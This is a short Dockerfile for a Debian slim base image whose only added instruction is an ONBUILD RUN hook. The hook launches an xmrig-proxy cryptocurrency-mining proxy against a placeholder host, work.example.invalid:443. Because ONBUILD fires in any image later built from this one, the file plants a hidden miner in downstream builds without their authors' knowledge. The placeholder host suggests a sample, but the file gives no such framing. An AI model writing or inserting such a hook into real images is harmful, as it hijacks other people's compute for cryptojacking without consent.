FROM debian:12-slim
ONBUILD RUN <<EOF
/opt/xmrig-proxy --mode=simple -o work.example.invalid:443
EOF
